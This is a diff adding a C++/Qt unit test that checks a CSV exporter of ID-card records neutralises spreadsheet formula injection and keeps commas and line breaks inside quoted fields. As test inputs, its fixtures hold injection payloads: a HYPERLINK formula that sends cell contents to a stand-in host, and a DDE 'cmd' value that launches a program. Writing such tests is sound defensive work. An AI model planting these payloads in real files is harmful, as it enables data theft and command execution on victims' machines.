@@ -2,6 +2,7 @@
 #include "TestSupport.h"
 
 #include "query/AdoXmlWriter.h"
+#include "query/CsvField.h"
 #include "query/RecordExport.h"
 #include "query/SaveDialog.h"
 #include "store/Schema.h"
@@ -205,6 +206,7 @@ private slots:
     void xmlRoundTrip();
     void xmlAliasesAndControls();
     void calcReadsCsvAsGb18030();
+    void calcRunsNoFormulaAndSplitsNoRow();
     void residentRowsStayAsTheyWereOnAnUpgradedDatabase();
     void cardColumnsFollowTheEleven();
 };
@@ -370,12 +372,12 @@ void TestRecordExport::csvLayout()
     QCOMPARE(lines.at(0),
              Gbk::encode(QStringLiteral(
                  "公民身份号码,姓名,性别,民族,出生,住址,最新住址,签发机关,有效期起,有效期止,验证时间\r")));
-    // Ordered by identity number; the comma of the address shifts the later columns.
+    // Ordered by identity number; an address with a comma stays one field.
     QCOMPARE(
         Gbk::decode(lines.at(1)),
         never.id +
             QStringLiteral(
-                ",赵一,男,汉族,1980-05-01,上海市,黄浦区,,北京市公安局东城分局,2010-01-01,2030-01-01,\r"));
+                ",赵一,男,汉族,1980-05-01,\"上海市,黄浦区\",,北京市公安局东城分局,2010-01-01,2030-01-01,\r"));
     QCOMPARE(Gbk::decode(lines.at(2)),
              seen.id +
                  QStringLiteral(",钱二,男,汉族,1980-05-01,北京市东城区景山前街4号,新址,北京市公安局东城分局,"
@@ -645,6 +647,103 @@ void TestRecordExport::calcReadsCsvAsGb18030()
     QCOMPARE(rareCells.size(), 11);
     QCOMPARE(rareCells.at(1), rare.name);
     QCOMPARE(rareCells.at(5), rare.address);
+}
+
+void TestRecordExport::calcRunsNoFormulaAndSplitsNoRow()
+{
+    ExportFixture fx;
+    fx.addCardColumns();
+    QList<ExportFixture::Citizen> cards;
+    cards.reserve(8); // card() hands out references into it
+    const auto card = [&cards](int serial) -> ExportFixture::Citizen & {
+        ExportFixture::Citizen c;
+        c.id = ExportFixture::idNumber(serial);
+        c.name = QStringLiteral("普通");
+        c.times = {QStringLiteral("2024-05-06 09:30:00")};
+        cards << c;
+        return cards.last();
+    };
+    card(1).name = QStringLiteral("=HYPERLINK(\"http://example.invalid/?\"&B3&C3,\"点此\")");
+    card(2).issueOrgan = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
+    card(3).issueOrgan = QStringLiteral("+1+2");
+    ExportFixture::Citizen &commas = card(4);
+    commas.issueOrgan = QStringLiteral("-2+3");
+    commas.address = QStringLiteral("上海市,黄浦区,南京东路1号");
+    commas.newAddress = QStringLiteral("新址,\"引号\"");
+    ExportFixture::Citizen &controls = card(5);
+    controls.name = QStringLiteral("\t=1+1");
+    controls.address = QStringLiteral("\r=2+2");
+    controls.newAddress = QStringLiteral("第一行\n第二行");
+    ExportFixture::Citizen &foreign = card(6);
+    foreign.card.CardType = CardRecord::Permanent;
+    foreign.card.EnglishName = QStringLiteral("=1+1, SMITH");
+    foreign.card.Nationality = QStringLiteral("@A1");
+    const ExportFixture::Citizen &plain = card(7);
+    for (const ExportFixture::Citizen &c : std::as_const(cards))
+        fx.add(c);
+    const QString csv = fx.path(QStringLiteral("HOSTILE.CSV"));
+    QCOMPARE(RecordExport(fx.db()).exportTo(csv, RecordExport::Format::Csv, {}), cards.size());
+
+    // The file itself: an ordinary row keeps its bytes; the others are quoted and neutralised.
+    const QByteArray bytes = ExportFixture::readFile(csv);
+    QCOMPARE(bytes.count("\r\n"), cards.size() + 1);
+    // Split at every LF, the one inside the quoted new address included: the rows before it and the last.
+    const QList<QByteArray> lines = csvLines(bytes);
+    QCOMPARE(Gbk::decode(lines.last()),
+             plain.id +
+                 QStringLiteral(",普通,男,汉族,1980-05-01,北京市东城区景山前街4号,,北京市公安局东城分局,"
+                                "2010-01-01,2030-01-01,2024-05-06 09:30:00,,,,,,,\r"));
+    QVERIFY(lines.at(1).contains(
+        Gbk::encode(QStringLiteral(",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&B3&C3,"
+                                   "\"\"点此\"\")\","))));
+    QVERIFY(lines.at(4).contains(
+        Gbk::encode(QStringLiteral(",\"上海市,黄浦区,南京东路1号\",\"新址,\"\"引号\"\"\","))));
+    QVERIFY(lines.at(4).contains(",'-2+3,"));
+
+    QString skip;
+    const ExportFixture::CalcSheet sheet =
+        ExportFixture::readSheetByCalc(fx.path(QStringLiteral("calc")), csv, &skip);
+    if (!skip.isEmpty())
+        QSKIP(qPrintable(skip));
+    QCOMPARE(sheet.formulas, 0);
+    QCOMPARE(sheet.rows.size(), cards.size() + 1);
+    const QStringList headers = RecordExport::headerTexts(true);
+    QCOMPARE(sheet.rows.first(), headers);
+    // Every value in its own column, shown as the text it is, a formula's apostrophe before it.
+    const auto shown = [](const QString &value) {
+        QString text = CsvField::looksLikeFormula(value) ? QLatin1Char('\'') + value : value;
+        return text.replace(QStringLiteral("\r\n"), QStringLiteral("\n")).replace(u'\r', u'\n');
+    };
+    for (qsizetype i = 0; i < cards.size(); ++i) {
+        const ExportFixture::Citizen &c = cards.at(i);
+        QStringList cells = sheet.rows.at(i + 1);
+        QVERIFY2(cells.size() <= headers.size(), qPrintable(cells.join(u'|')));
+        cells.resize(headers.size());
+        const QStringList expected = {c.id,
+                                      shown(c.name),
+                                      c.sex,
+                                      c.folk,
+                                      c.birthDay,
+                                      shown(c.address),
+                                      shown(c.newAddress.toString()),
+                                      shown(c.issueOrgan),
+                                      c.begin,
+                                      c.end,
+                                      c.times.first(),
+                                      c.card.CardType,
+                                      shown(c.card.EnglishName),
+                                      shown(c.card.Nationality),
+                                      QString(),
+                                      QString(),
+                                      QString(),
+                                      QString()};
+        for (qsizetype column = 0; column < headers.size(); ++column) {
+            // Calc shows numbers and dates as it reads them; only the texts are compared.
+            if (column == 0 || column == 4 || (column >= 8 && column <= 10))
+                continue;
+            QCOMPARE(cells.at(column), expected.at(column));
+        }
+    }
 }
 
 void TestRecordExport::residentRowsStayAsTheyWereOnAnUpgradedDatabase()
